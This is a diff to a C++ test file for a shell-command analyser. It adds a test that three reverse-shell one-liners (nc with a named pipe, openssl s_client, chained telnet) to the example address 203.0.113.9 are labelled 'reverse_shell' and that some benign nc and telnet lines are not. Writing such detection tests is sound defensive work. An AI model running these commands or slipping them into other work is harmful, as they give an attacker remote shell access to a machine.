@@ -242,6 +242,17 @@ TEST(Sh, KnowsAFileBehindWildcardsAndHandles) {
                   .has("reverse_shell"));
 }
 
+TEST(Sh, KnowsAShellThatAnswersToTheNetwork) {
+  for (const std::string script :
+       {"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
+        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s",
+        "telnet 203.0.113.9 44 | /bin/bash | telnet 203.0.113.9 45"})
+    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::unix}).has("reverse_shell")) << script;
+  for (const std::string script : {"sh /opt/check.sh | nc 10.0.0.5 25", "echo quit | telnet 10.0.0.5 25",
+                                   "sh -c 'cat /srv/list' | nc 10.0.0.5 9000"})
+    EXPECT_FALSE(read(Input{.line = script, .origin = Origin::unix}).has("reverse_shell")) << script;
+}
+
 TEST(Sh, ReadsWhatOtherProgramsRun) {
   for (const std::string script : {"find / -name x -exec whoami {} +", "sudo nsenter -t 1 -m -u -i -n whoami",
                                    "docker exec -it web whoami", "podman run --rm -e A=1 alpine whoami",
